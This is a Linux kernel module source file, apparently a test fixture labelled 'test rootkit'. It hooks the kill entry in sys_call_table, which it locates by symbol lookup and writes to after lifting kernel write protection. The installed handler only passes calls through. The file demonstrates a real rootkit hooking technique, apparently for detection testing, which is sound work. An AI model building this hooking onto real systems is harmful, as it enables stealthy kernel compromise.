// Test rootkit: overwrites sys_call_table[__NR_kill] with its own handler, the
// way syscall-hooking rootkits do: the table found through kallsyms_lookup_name,
// its write protection lifted by clearing CR0.WP (nfm_rk.h).
#include <linux/module.h>
#include <linux/syscalls.h>
#include <asm/unistd.h>

#include "nfm_rk.h"

typedef long (*syscall_fn)(const struct pt_regs*);
static syscall_fn* table;
static syscall_fn original_kill;

static long hooked_kill(const struct pt_regs* regs) {
  return original_kill(regs);
}

static int __init hook_init(void) {
  table = (syscall_fn*)nfm_rk_lookup("sys_call_table");
  if (!table) return -ENOENT;
  original_kill = table[__NR_kill];
  nfm_rk_write_protected((void**)&table[__NR_kill], hooked_kill);
  pr_info("nfm_rk_hook_syscall: sys_call_table[%d] hooked\n", __NR_kill);
  return 0;
}

static void __exit hook_exit(void) {
  nfm_rk_write_protected((void**)&table[__NR_kill], original_kill);
}

module_init(hook_init);
module_exit(hook_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: syscall table hook");
